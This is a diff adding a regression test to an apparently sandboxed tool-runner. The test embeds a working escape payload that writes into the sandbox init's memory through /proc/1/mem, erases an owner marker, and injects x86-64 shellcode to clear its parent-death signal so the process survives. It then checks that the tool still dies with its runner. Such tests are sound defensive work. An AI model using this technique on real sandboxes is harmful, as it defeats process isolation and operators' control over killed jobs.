@@ -196,3 +196,73 @@ def test_containers_of_killed_runners_are_gone_within_a_second(
         if not docker_client.containers(all=True, filters={"label": "io.runner.managed=true"}):
             break
         time.sleep(0.2)
+
+
+# The review's second escape: a tool of the same uid as its sandbox's init (bubblewrap's
+# pid 1) opens /proc/1/mem, which the seccomp filter cannot refuse, erases the owner mark
+# from the init's environment and has it clear its own parent-death signal (x86-64 code
+# written at its return address), then stays. Its process name says how far it got.
+UNMARKING = r"""
+import os, sys, time
+sys.stdin.read()
+def named(name):
+    with open("/proc/self/comm", "w") as comm:
+        comm.write(name)
+try:
+    pc = int(open("/proc/1/syscall").read().split()[-1], 16)
+    stat = open("/proc/1/stat").read()
+    fields = stat[stat.rindex(")") + 2:].split()
+    env_start, env_end = int(fields[47]), int(fields[48])
+    mem = os.open("/proc/1/mem", os.O_RDWR)
+    env = os.pread(mem, env_end - env_start, env_start)
+    at = env.find(b"RUNNER_OWNER=")
+    if at >= 0:
+        os.pwrite(mem, b"X", env_start + at)
+    # prctl(PR_SET_PDEATHSIG, 0); then wait4(-1, 0, 0, 0) over and over
+    code = bytes.fromhex("bf01000000" "31f6" "b89d000000" "0f05"
+                         "48c7c7ffffffff" "31f6" "31d2" "4d31d2" "b83d000000" "0f05" "ebe9")
+    os.pwrite(mem, code, pc)
+    os.close(mem)
+    if os.fork() == 0:  # an orphan whose end wakes the init into the new code
+        if os.fork() == 0:
+            time.sleep(0.2)
+            os._exit(0)
+        os._exit(0)
+    os.wait()
+    time.sleep(0.5)
+    named("unmarked")
+except Exception as exc:
+    named("not-unmarked")
+    sys.stderr.write(repr(exc))
+while True:
+    time.sleep(1)
+"""
+
+
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack writes x86-64 code")
+def test_a_tool_that_unmarks_its_init_and_clears_its_death_signal_still_dies_with_the_runner(
+    bench: ToolBench,
+) -> None:
+    token = f"unmarking-{uuid.uuid4().hex}"
+    bench.tool("unmarking", UNMARKING, command=["python3", "main.py", token], limits={"timeout_ms": 30000})
+    runner = bench.spawn_runner("unmarking", f"req-{token[-12:]}")
+    names: set[str] = set()
+    deadline = time.monotonic() + 30
+    while not names & {"unmarked", "not-unmarked"} and time.monotonic() < deadline:
+        time.sleep(0.1)
+        names = {_describe_comm(pid) for pid in _alive_with(token)}
+    runner.kill()
+    runner.wait()
+    time.sleep(GRACE_S)
+    left = _alive_with(token)
+    described = [_describe(pid) for pid in left]
+    subprocess.run(["kill", "-9", *map(str, left)], check=False)
+    assert names & {"unmarked", "not-unmarked"}, "the tool never got as far as its attack"
+    assert described == [], f"the tool outlived its runner (its attack: {names})"
+
+
+def _describe_comm(pid: int) -> str:
+    try:
+        return Path(f"/proc/{pid}/comm").read_text().strip()
+    except OSError:
+        return ""
